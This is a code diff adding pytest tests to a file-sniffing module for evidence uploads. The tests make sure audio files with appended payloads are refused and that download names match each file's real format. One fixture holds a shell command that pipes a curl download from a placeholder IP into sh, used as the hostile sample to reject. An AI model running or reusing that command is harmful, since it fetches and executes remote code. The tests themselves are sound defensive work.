@@ -17,7 +17,7 @@ from evidence_helpers import (
     zip_archive,
 )
 
-from evidence.sniff import Refused, sniff
+from evidence.sniff import Refused, download_name, sniff
 
 
 @pytest.mark.parametrize("name", list(SAMPLES))
@@ -134,3 +134,43 @@ def test_it_still_finds_a_zip_in_a_wav_with_an_unset_size():
     data[4:8] = bytes(4)
     with pytest.raises(Refused, match="同时像好几种文件"):
         sniff(bytes(data) + zip_archive())
+
+
+SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
+PE_AFTER_PADDING = b"\x01\x02\x03\x04This program cannot be run in DOS mode" + bytes(64)
+
+
+@pytest.mark.parametrize("make", [mp3, amr, wav, m4a], ids=["mp3", "amr", "wav", "m4a"])
+@pytest.mark.parametrize("appended", [SCRIPT, PE_AFTER_PADDING], ids=["script", "pe-body"])
+def test_it_refuses_a_recording_with_data_after_its_container_ends(make, appended):
+    with pytest.raises(Refused, match="结尾多出了一段不属于录音的数据"):
+        sniff(make() + appended)
+
+
+@pytest.mark.parametrize("make", [mp3, amr, wav, m4a], ids=["mp3", "amr", "wav", "m4a"])
+def test_it_still_accepts_a_recording_with_zero_padding_at_its_end(make):
+    assert sniff(make() + bytes(16)).kind == "audio"
+
+
+def test_it_accepts_an_mp3_with_an_id3v1_tag_at_its_end():
+    assert sniff(mp3() + b"TAG" + bytes(125)).mime == "audio/mpeg"
+
+
+def test_it_refuses_a_wav_whose_declared_size_ends_before_a_hidden_payload():
+    data = wav()
+    with pytest.raises(Refused):
+        sniff(data + b"\x90" * 100)  # the RIFF size still says where the real file ends
+
+
+@pytest.mark.parametrize(
+    ("name", "mime", "served"),
+    [
+        ("invoice.exe", "application/pdf", "invoice.exe.pdf"),
+        ("录音.m4a", "audio/mp4", "录音.m4a"),
+        ("shot.JPG", "image/jpeg", "shot.JPG"),
+        ("run.bat", "audio/mpeg", "run.bat.mp3"),
+        ("call.apk", "audio/amr", "call.apk.amr"),
+    ],
+)
+def test_it_never_serves_a_name_that_does_not_end_in_the_files_real_format(name, mime, served):
+    assert download_name(name, mime) == served
